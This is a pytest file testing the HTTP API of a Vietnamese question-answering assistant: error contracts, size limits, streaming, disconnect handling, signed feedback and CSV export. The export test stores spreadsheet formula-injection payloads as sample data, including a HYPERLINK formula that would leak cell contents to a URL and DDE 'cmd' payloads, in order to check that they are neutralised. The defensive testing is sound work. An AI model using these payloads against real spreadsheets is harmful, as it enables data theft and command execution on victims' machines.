"""The HTTP API's contract as a client sees it, over real sockets: one error shape on every
route, one request policy, a real stream on `/v1/chat/completions`, honest feedback and a CSV
export that a spreadsheet cannot turn into formulas."""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from assistant import Answer, Citation, RequestLimits, Verified
from index import Hit
from tests.helpers import ScriptedEndpoint, ServedApp, free_port, post_json
from ui.feedback import FeedbackStore

QUESTION = "Có bao nhiêu trường đại học xây dựng chương trình đào tạo về năng suất?"
# What an error body may never show: library internals, exception classes, tracebacks.
INTERNALS = (
    "pydantic",
    "errors.pydantic.dev",
    "Traceback",
    "Error",
    "Exception",
    "Input should",
    "Field required",
    "validation error",
    "There was an error",
    "detail",
)


@pytest.fixture(scope="module")
def served(cli_data_dir: Path) -> Iterator[ServedApp]:
    with ServedApp(cli_data_dir, HOIDAP_ANSWER_MODE="extractive") as app:
        yield app


def post_raw(
    url: str, path: str, body: bytes, content_type: str | None = "application/json"
) -> tuple[int, Any]:
    """POST raw bytes with exactly the given Content-Type (or none at all)."""
    host, port = url.removeprefix("http://").split(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=120)
    headers = {"Content-Type": content_type} if content_type else {}
    connection.request("POST", path, body=body, headers=headers)
    response = connection.getresponse()
    raw = response.read().decode()
    try:
        return response.status, json.loads(raw)
    except ValueError:
        return response.status, raw


def assert_error_contract(reply: Any) -> None:
    assert isinstance(reply, dict) and set(reply) == {"error", "reasons"}, reply
    assert isinstance(reply["error"], str) and reply["error"], reply
    assert isinstance(reply["reasons"], list), reply
    assert all(isinstance(r, str) and r for r in reply["reasons"]), reply
    text = json.dumps(reply, ensure_ascii=False)
    for internal in INTERNALS:
        assert internal not in text, (internal, reply)


NESTED_1000 = b'{"messages":' + b"[" * 1000 + b"]" * 1000 + b"}"
NESTED_DEEP = b'{"question":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
ASKED = {"question": "APO là gì?", "answer": "APO là Tổ chức Năng suất Châu Á."}

BAD_REQUESTS = [
    # /api/ask
    ("/api/ask", b"{not json", "application/json", 422),
    ("/api/ask", b'{"question": "\xff\xfe c\xe2u h\xe1i"}', "application/json", 422),
    ("/api/ask", NESTED_DEEP, "application/json", 422),
    ("/api/ask", b'{"question": "APO \\udc00?"}', "application/json", 422),
    (
        "/api/ask",
        b'{"question": "APO?", "history": [{"role": "user", "content": "\\ud800"}]}',
        "application/json",
        422,
    ),
    ("/api/ask", b'{"question": "  "}', "application/json", 422),
    ("/api/ask", b'{"question": 5}', "application/json", 422),
    ("/api/ask", b"{}", "application/json", 422),
    ("/api/ask", b"[1, 2]", "application/json", 422),
    (
        "/api/ask",
        b'{"question": "APO?", "mode": "th\xe1\xba\xa7n ch\xc3\xba"}',
        "application/json",
        422,
    ),
    ("/api/ask", json.dumps({"question": "x" * 5000}).encode(), "application/json", 413),
    ("/api/ask", b'{"question": "APO?"}', "text/plain", 415),
    ("/api/ask", b'{"question": "APO?"}', None, 415),
    # /api/feedback
    ("/api/feedback", NESTED_DEEP, "application/json", 422),
    ("/api/feedback", b'{"answer": {"question": "\\udc00"}, "rating": 1}', "application/json", 422),
    (
        "/api/feedback",
        b'{"answer": {"question": "q", "answer": "\\udc00"}, "rating": 1}',
        "application/json",
        422,
    ),
    (
        "/api/feedback",
        b'{"answer": {"question": "q"}, "rating": 1, "comment": "\xc3"}',
        "application/json",
        422,
    ),
    (
        "/api/feedback",
        json.dumps({"answer": {"question": 5}, "rating": 1}).encode(),
        "application/json",
        422,
    ),
    ("/api/feedback", json.dumps({"answer": ASKED, "rating": 1}).encode(), "text/plain", 415),
    # /v1/chat/completions
    ("/v1/chat/completions", NESTED_1000, "application/json", 422),
    ("/v1/chat/completions", b'{"messages": []}', "application/json", 422),
    (
        "/v1/chat/completions",
        b'{"messages": [{"role": "assistant", "content": "Ch\xc3\xa0o"}]}',
        "application/json",
        422,
    ),
    (
        "/v1/chat/completions",
        b'{"messages": [{"role": "user", "content": "\xff"}]}',
        "application/json",
        422,
    ),
    (
        "/v1/chat/completions",
        b'{"messages": [{"role": "user", "content": "   "}]}',
        "application/json",
        422,
    ),
    (
        "/v1/chat/completions",
        b'{"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {}}]}]}',
        "application/json",
        422,
    ),
    # a cross-site form can send text/plain (or nothing) without a CORS preflight
    (
        "/v1/chat/completions",
        b'{"messages": [{"role": "user", "content": "APO?"}]}',
        "text/plain",
        415,
    ),
    ("/v1/chat/completions", b'{"messages": [{"role": "user", "content": "APO?"}]}', None, 415),
    (
        "/v1/chat/completions",
        b'{"messages": [{"role": "user", "content": "APO?"}]}',
        "application/x-www-form-urlencoded",
        415,
    ),
]


def test_bad_input_gets_one_error_shape_never_a_500(served):
    """L2: invalid JSON / UTF-8, deep nesting, lone surrogates, blank questions, wrong types and
    content types: a 4xx in `{"error", "reasons"}` with no library internals, on every route,
    and nothing of it reaches the server's catch-all (no traceback in its log)."""
    wrong = []
    for path, body, content_type, expected in BAD_REQUESTS:
        status, reply = post_raw(served.url, path, body, content_type)
        try:
            assert status == expected
            assert_error_contract(reply)
        except AssertionError:
            wrong.append((path, body[:50], content_type, expected, status, str(reply)[:160]))
    assert wrong == [], "\n".join(map(str, wrong))
    log = served.log.read_text()
    assert "Traceback" not in log and "lỗi không lường trước" not in log, log[-3000:]


def test_the_validation_reasons_say_what_is_wrong_in_vietnamese(served):
    status, reply = post_json(f"{served.url}/api/ask", {"question": "APO?", "mode": "thần chú"})
    assert status == 422
    assert reply["error"] == "Yêu cầu không hợp lệ"
    assert any(r.startswith("mode:") and "auto" in r for r in reply["reasons"]), reply
    status, reply = post_json(f"{served.url}/v1/chat/completions", {"messages": []})
    assert status == 422 and any(r.startswith("messages:") for r in reply["reasons"]), reply


@pytest.mark.parametrize("question", ["?", "???", "😀", "..."])
def test_punctuation_or_emoji_questions_get_an_answer(served, question):
    """M4 (needs the empty-BM25-query fix in index/lexical.py): 200 and an answer, be it an
    abstention, on both APIs."""
    status, answer = post_json(f"{served.url}/api/ask", {"question": question})
    assert status == 200, answer
    assert answer["answer"].strip()
    body = {"messages": [{"role": "user", "content": question}]}
    status, reply = post_json(f"{served.url}/v1/chat/completions", body)
    assert status == 200, reply
    assert reply["choices"][0]["message"]["content"].strip()


RED_TEAM_HISTORY = {
    "question": "Còn năm đó thì sao?",
    "history": [
        {"role": "user", "content": ("tieu chuan do luong APO ACCSQ " * 700)[:19_500]},
    ],
    "mode": "extractive",
}


def test_history_cannot_bypass_the_question_limit(served):
    """M7/item 11: the red team's 19.5 KB history turn (200 after 8.6 s of CPU before) is refused
    at once with 413, on /api/ask and on /v1 alike."""
    started = time.perf_counter()
    status, reply = post_json(f"{served.url}/api/ask", RED_TEAM_HISTORY)
    elapsed = time.perf_counter() - started
    assert status == 413, reply
    assert_error_contract(reply)
    assert "Lượt hội thoại" in reply["error"] and "4.000" in reply["error"], reply
    assert elapsed < 5, elapsed  # generous: the embedder never sees it

    messages = [*RED_TEAM_HISTORY["history"], {"role": "user", "content": "Còn năm đó thì sao?"}]
    status, reply = post_json(f"{served.url}/v1/chat/completions", {"messages": messages})
    assert status == 413, reply
    assert_error_contract(reply)
    # the same policy caps the question itself, on both routes
    long_question = "x" * 2001
    status, reply = post_json(f"{served.url}/api/ask", {"question": long_question})
    assert status == 413 and "2.000" in reply["error"]
    status, reply = post_json(
        f"{served.url}/v1/chat/completions",
        {"messages": [{"role": "user", "content": long_question}]},
    )
    assert status == 413 and "2.000" in reply["error"]


def test_v1_accepts_openai_content_parts(served):
    body = {
        "messages": [
            {"role": "system", "content": [{"type": "text", "text": "Trả lời ngắn gọn."}]},
            {"role": "user", "content": [{"type": "text", "text": "TBT nghĩa là gì?"}]},
        ]
    }
    status, reply = post_json(f"{served.url}/v1/chat/completions", body)
    assert status == 200, reply
    content = reply["choices"][0]["message"]["content"]
    assert "Hàng rào kỹ thuật trong thương mại" in content and "Nguồn:" in content
    assert reply["object"] == "chat.completion" and reply["choices"][0]["finish_reason"] == "stop"


def read_sse(url: str, body: dict[str, Any]) -> list[tuple[float, Any]]:
    """The `data:` events of a streamed reply, each with the time (s since the request) it
    arrived; `[DONE]` as the string."""
    host, port = url.removeprefix("http://").split(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=300)
    started = time.perf_counter()
    connection.request(
        "POST",
        "/v1/chat/completions",
        body=json.dumps(body).encode(),
        headers={"Content-Type": "application/json"},
    )
    response = connection.getresponse()
    assert response.status == 200, response.read()
    assert response.getheader("Content-Type", "").startswith("text/event-stream")
    events: list[tuple[float, Any]] = []
    while True:
        line = response.fp.readline()
        if not line:
            break
        line = line.decode().rstrip("\r\n")
        if line.startswith("data: "):
            data = line[6:]
            events.append(
                (time.perf_counter() - started, data if data == "[DONE]" else json.loads(data))
            )
    connection.close()
    return events


def streamed_text(events: list[tuple[float, Any]]) -> str:
    return "".join(
        e["choices"][0]["delta"].get("content", "") for _, e in events if isinstance(e, dict)
    )


def test_v1_stream_matches_the_non_stream_reply(served):
    body = {"messages": [{"role": "user", "content": "TBT nghĩa là gì?"}]}
    status, reply = post_json(f"{served.url}/v1/chat/completions", body)
    assert status == 200
    events = read_sse(served.url, {**body, "stream": True})
    assert events[-1][1] == "[DONE]"
    assert events[0][1]["choices"][0]["delta"] == {"role": "assistant"}
    assert events[-2][1]["choices"][0]["finish_reason"] == "stop"
    assert streamed_text(events) == reply["choices"][0]["message"]["content"]


# -- a real stream: Verified sentences go out as they come ---------------------------------


class StubLibrary:
    """What the API reads of the library: the index's status for /healthz."""

    def status(self) -> Any:
        from index import IndexStatus

        return IndexStatus(
            documents=0, chunks=0, embedder="", store="", collection="", data_dir="", pending=0
        )


class StubAssistant:
    """Assistant-like: yields raw tokens and Verified sentences on a timetable, and records
    whether its stream was closed (how the model is told to stop)."""

    def __init__(self, pause_s: float, tokens: int = 0) -> None:
        self.limits = RequestLimits()
        self.pause_s = pause_s
        self.tokens = tokens
        self.closed = threading.Event()
        self.produced = 0

    def stream(self, question: str, history: Any = None, mode: str | None = None) -> Iterator[Any]:
        try:
            for _ in range(self.tokens):  # a model that runs on and on
                time.sleep(0.05)
                self.produced += 1
                yield "tok "
            yield "Câu một"
            yield Verified("Câu một đã kiểm chứng [1].")
            time.sleep(self.pause_s)  # the model writes the second sentence
            yield Verified("Câu hai cũng vậy [1].")
            hit = Hit(0, 1.0, "doc", "Tài liệu", "2024-01-01", "doc:0", "Câu một.", 0, 8)
            yield Answer(
                question=question,
                answer="Câu một đã kiểm chứng [1]. Câu hai cũng vậy [1].",
                abstained=False,
                mode="llm",
                citations=[Citation(1, hit, 0, 8)],
            )
        finally:
            self.closed.set()

    def ask(self, question: str, history: Any = None, mode: str | None = None) -> Answer:
        return [e for e in self.stream(question, history, mode) if isinstance(e, Answer)][-1]


class InProcessServer:
    """`ui.api` routes over a stub assistant, served by a real uvicorn on loopback."""

    def __init__(self, assistant: Any, data_dir: Path) -> None:
        import uvicorn
        from fastapi import FastAPI

        from ui.api import add_routes

        app = FastAPI()
        add_routes(app, assistant, StubLibrary(), FeedbackStore(data_dir))  # type: ignore[arg-type]
        port = free_port()
        self.url = f"http://127.0.0.1:{port}"
        self.server = uvicorn.Server(uvicorn.Config(app, port=port, log_level="warning"))
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def __enter__(self) -> InProcessServer:
        self.thread.start()
        deadline = time.monotonic() + 30
        while not self.server.started:
            assert time.monotonic() < deadline
            time.sleep(0.05)
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.should_exit = True
        self.thread.join(timeout=30)


def test_v1_streams_each_verified_sentence_as_it_comes(tmp_path):
    """Item 10: the first verified sentence goes out while the model still writes the next
    (before: everything at the end); then the sources, `stop` and `[DONE]`."""
    stub = StubAssistant(pause_s=2.0)
    with InProcessServer(stub, tmp_path) as server:
        events = read_sse(
            server.url, {"messages": [{"role": "user", "content": "Hỏi?"}], "stream": True}
        )
    contents = [
        (t, e) for t, e in events if isinstance(e, dict) and e["choices"][0]["delta"].get("content")
    ]
    first_at, last_at = contents[0][0], events[-1][0]
    assert contents[0][1]["choices"][0]["delta"]["content"] == "Câu một đã kiểm chứng [1]."
    assert last_at - first_at > 1.5, (first_at, last_at)  # sent before the second sentence
    text = streamed_text(events)
    assert text.startswith(
        "Câu một đã kiểm chứng [1]. Câu hai cũng vậy [1].\n\nNguồn:\n[1] Tài liệu"
    )
    assert "tok" not in text and "Câu một\n" not in text  # raw model tokens are never sent
    assert events[-2][1]["choices"][0]["finish_reason"] == "stop" and events[-1][1] == "[DONE]"


def test_v1_stream_closes_the_engine_when_the_client_goes_away(tmp_path, caplog):
    """M5: a client that hangs up mid-answer stops the engine (its stream is closed, so the
    model generator gets GeneratorExit) instead of generating on for nobody."""
    stub = StubAssistant(pause_s=0.0, tokens=400)  # 20 s of tokens if nobody stops it
    with InProcessServer(stub, tmp_path) as server:
        host, port = server.url.removeprefix("http://").split(":")
        connection = http.client.HTTPConnection(host, int(port), timeout=30)
        connection.request(
            "POST",
            "/v1/chat/completions",
            body=json.dumps({"messages": [{"role": "user", "content": "Hỏi?"}], "stream": True}),
            headers={"Content-Type": "application/json"},
        )
        response = connection.getresponse()
        assert response.status == 200
        response.fp.readline()  # the stream is under way
        time.sleep(0.3)
        connection.sock.close()  # the client goes away
        connection.close()
        assert stub.closed.wait(10), "the engine's stream was never closed"
        time.sleep(0.5)
    assert stub.produced < 200, stub.produced
    assert not [r for r in caplog.records if r.levelname == "ERROR"]  # a hang-up is no bug


def test_a_slow_model_streams_its_first_sentence_before_it_finishes(cli_data_dir):
    """Item 10 on a real `serve` with a slow model (one word each 0.25 s): the first content
    arrives seconds before the end. Needs the engine's Verified events (assistant/engine.py)."""
    reply = (
        "Có 15 trường đại học trên toàn quốc hưởng ứng xây dựng chương trình đào tạo [1]. "
        "Công tác quản lý năng suất được đưa vào các trường đại học thành môn học chính ở "
        "trong trường [1]."
    )
    endpoint = ScriptedEndpoint(reply, delay_s=0.25)
    with ServedApp(cli_data_dir, HOIDAP_LLM_URL=endpoint.url, HOIDAP_ANSWER_MODE="llm") as app:
        events = read_sse(
            app.url, {"messages": [{"role": "user", "content": QUESTION}], "stream": True}
        )
    contents = [
        t for t, e in events if isinstance(e, dict) and e["choices"][0]["delta"].get("content")
    ]
    first_at, done_at = contents[0], events[-1][0]
    print(f"first content {first_at:.2f} s, [DONE] {done_at:.2f} s")
    assert "15 trường đại học" in streamed_text(events)
    assert done_at - first_at > 2.0, (first_at, done_at)  # the second sentence takes ~4 s


# -- feedback -------------------------------------------------------------------------------


def test_feedback_is_bound_to_an_answer_this_server_gave(served):
    """L3: `/api/ask` signs its answer (`answer_id`); feedback must carry it back unchanged,
    so rows cannot be forged; `rating` is strictly 1 or -1."""
    status, answer = post_json(f"{served.url}/api/ask", {"question": QUESTION})
    assert status == 200 and isinstance(answer.get("answer_id"), str), answer
    status, stored = post_json(f"{served.url}/api/feedback", {"answer": answer, "rating": 1})
    assert status == 200 and stored["id"] > 0, stored

    forged = {**answer, "answer": "Ngân sách năm 2024 là 999 tỷ đồng [1]."}
    for bad in [
        {"answer": forged, "rating": 1},
        {"answer": {k: v for k, v in answer.items() if k != "answer_id"}, "rating": 1},
        {"answer": {**answer, "answer_id": "0" * 64}, "rating": -1},
    ]:
        status, reply = post_json(f"{served.url}/api/feedback", bad)
        assert status == 422, reply
        assert_error_contract(reply)
        assert any("answer_id" in r for r in reply["reasons"]), reply


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"answer": "A" * 20_001}, "answer.answer"),
        ({"question": "Q" * 2001}, "answer.question"),
        ({"citations": [{"n": i} for i in range(21)]}, "answer.citations"),
        ({"abstained": "có"}, "answer.abstained"),
    ],
)
def test_feedback_fields_are_capped(served, change, field):
    body = {"answer": {**ASKED, **change}, "rating": 1}
    status, reply = post_json(f"{served.url}/api/feedback", body)
    assert status == 422, reply
    assert_error_contract(reply)
    assert any(r.startswith(field) for r in reply["reasons"]), reply


@pytest.mark.parametrize("rating", [True, 1.0, 5, "1", None])
def test_feedback_rating_is_strictly_one_or_minus_one(served, rating):
    status, answer = post_json(f"{served.url}/api/ask", {"question": "APO là gì?"})
    status, reply = post_json(f"{served.url}/api/feedback", {"answer": answer, "rating": rating})
    assert status == 422, reply
    assert_error_contract(reply)
    assert [r for r in reply["reasons"] if r.startswith("rating")] and len(reply["reasons"]) == 1


def test_feedback_comment_is_capped(served):
    body = {"answer": ASKED, "rating": 1, "comment": "c" * 5001}
    status, reply = post_json(f"{served.url}/api/feedback", body)
    assert status == 422 and any(r.startswith("comment") for r in reply["reasons"]), reply


def test_feedback_database_is_private(tmp_path, served, cli_data_dir):
    store = FeedbackStore(tmp_path / "data")
    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600
    assert stat.S_IMODE((cli_data_dir / "app.sqlite3").stat().st_mode) == 0o600


# -- CSV export -----------------------------------------------------------------------------

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_feedback_export_neutralises_formulas_and_keeps_vietnamese(tmp_path):
    """M3: through the real CLI, no exported text cell starts with a formula trigger (the red
    team's rows were written raw), and a UTF-8 BOM lets Excel read the Vietnamese."""
    data_dir = tmp_path / "data"
    store = FeedbackStore(data_dir)
    store.add(
        {"question": "Ngân sách?", "answer": "=1+1", "mode": "@mode", "model": "\tmodel"},
        1,
        '=HYPERLINK("http://127.0.0.1:9/leak?x="&A1,"Bấm vào đây")',
    )
    store.add(
        {
            "question": "=cmd|' /C calc'!A0",
            "answer": "+SUM(1,2)",
            "mode": "-x",
            "model": "\rmodel",
            "citations": [{"n": 1, "doc_id": "d", "title": "@SUM(1+1)*cmd|' /C calc'!A0"}],
        },
        -1,
        "-2+3+cmd|' /C calc'!A0",
    )
    store.add({"question": "Tiêu chuẩn Đo lường Chất lượng là gì?", "answer": "Bình thường."}, 1)
    out = tmp_path / "feedback.csv"
    run = [sys.executable, "-m", "hoidap", "feedback", "export", "--data-dir", str(data_dir)]
    subprocess.run([*run, "--out", str(out)], check=True, capture_output=True)
    stdout = subprocess.run(run, check=True, capture_output=True).stdout
    for raw in (out.read_bytes(), stdout):
        assert raw.startswith(b"\xef\xbb\xbf")  # BOM
        rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
        assert len(rows) == 3
        for row in rows:
            for column, cell in row.items():
                if column in ("id", "rating", "abstained"):
                    continue  # numbers the store itself wrote
                assert not cell.startswith(TRIGGERS), (column, cell)
        first, second, third = rows
        assert first["comment"] == """'=HYPERLINK("http://127.0.0.1:9/leak?x="&A1,"Bấm vào đây")"""
        assert first["answer"] == "'=1+1" and first["mode"] == "'@mode"
        assert second["question"] == "'=cmd|' /C calc'!A0" and second["rating"] == "-1"
        assert json.loads(second["citations"])[0]["title"].startswith("@SUM")  # inside JSON
        assert third["question"] == "Tiêu chuẩn Đo lường Chất lượng là gì?"
        assert third["answer"] == "Bình thường."


def test_feedback_database_created_private_even_with_a_loose_umask(tmp_path):
    old = os.umask(0o000)
    try:
        store = FeedbackStore(tmp_path / "data")
        store.add(ASKED, 1)
    finally:
        os.umask(old)
    for path in store.path.parent.glob("app.sqlite3*"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


class BrokenAssistant(StubAssistant):
    """An engine with a bug: what the catch-all is for."""

    def stream(self, question: str, history: Any = None, mode: str | None = None) -> Iterator[Any]:
        raise KeyError("C:\\secret\\path")
        yield  # a generator, as the real one


def test_an_unexpected_failure_is_a_logged_500_in_the_contract(tmp_path, caplog):
    with InProcessServer(BrokenAssistant(pause_s=0), tmp_path) as server:
        for path, body in [
            ("/api/ask", {"question": "Hỏi?"}),
            ("/v1/chat/completions", {"messages": [{"role": "user", "content": "Hỏi?"}]}),
            (
                "/v1/chat/completions",
                {"messages": [{"role": "user", "content": "Hỏi?"}], "stream": True},
            ),
        ]:
            status, reply = post_json(server.url + path, body)
            assert status == 500, reply
            assert_error_contract(reply)
            assert "secret" not in json.dumps(reply) and "KeyError" not in json.dumps(reply)
    logged = [r for r in caplog.records if r.name == "hoidap.api" and r.exc_info]
    assert len(logged) == 3 and "lỗi không lường trước" in logged[0].getMessage()


def test_api_ask_stops_the_engine_when_the_client_goes_away(tmp_path, caplog):
    """M5 on /api/ask too: a client that hangs up before its (model) answer is ready stops
    the engine instead of leaving it to generate for nobody."""
    stub = StubAssistant(pause_s=0.0, tokens=400)  # 20 s of tokens if nobody stops it
    with InProcessServer(stub, tmp_path) as server:
        host, port = server.url.removeprefix("http://").split(":")
        connection = http.client.HTTPConnection(host, int(port), timeout=30)
        connection.request(
            "POST",
            "/api/ask",
            body=json.dumps({"question": "Hỏi?"}),
            headers={"Content-Type": "application/json"},
        )
        time.sleep(0.5)  # the answer is under way
        connection.sock.close()  # the client goes away
        connection.close()
        assert stub.closed.wait(10), "the engine's stream was never closed"
        time.sleep(0.5)
    assert stub.produced < 200, stub.produced
    assert not [r for r in caplog.records if r.levelname == "ERROR"]  # a hang-up is no bug
